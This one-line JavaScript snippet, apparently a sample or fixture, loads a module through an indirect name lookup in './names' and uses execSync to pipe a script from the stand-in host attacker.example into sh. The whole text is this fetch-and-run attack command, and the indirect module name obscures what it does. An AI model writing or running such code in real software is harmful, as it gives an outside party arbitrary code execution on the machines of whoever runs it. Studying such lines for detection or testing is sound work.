require(require("./names")).execSync("curl http://attacker.example/x.sh | sh");
